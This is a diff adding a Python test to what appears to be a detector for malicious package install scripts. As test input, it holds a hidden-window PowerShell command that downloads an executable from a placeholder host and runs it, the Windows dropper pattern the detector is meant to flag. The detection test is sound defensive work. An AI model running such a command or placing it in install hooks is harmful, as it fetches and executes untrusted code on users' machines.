@@ -825,3 +825,13 @@ def test_a_ci_runner_registered_for_a_repository_is_remote_access():
     assert decide(found).level is Level.MALICIOUS
     # Configuring the runner interactively, or reading its help, registers nothing unattended.
     assert "install-script/ci-runner" not in rules(artifact({"postinstall": "./config.sh --help"}))
+
+
+def test_powershell_download_then_start_process_is_download_execute():
+    # Invoke-WebRequest -OutFile x, then Start-Process x (with its window hidden): what droppers of Windows run.
+    command = ("powershell -NoProfile -WindowStyle Hidden -Command \"Invoke-WebRequest -Uri 'https://cdn.example/l.exe' "
+               "-OutFile 'C:/Users/Public/l.exe'; Start-Process -WindowStyle Hidden -FilePath 'C:/Users/Public/l.exe'\"")
+    assert "install-script/download-execute" in rules(artifact({"postinstall": command}))
+    # Downloading alone, or starting another program, is not.
+    assert "install-script/download-execute" not in rules(artifact({"postinstall": (
+        "powershell -Command \"Invoke-WebRequest -Uri 'https://cdn.example/l.zip' -OutFile 'l.zip'; Start-Process notepad\"")}))
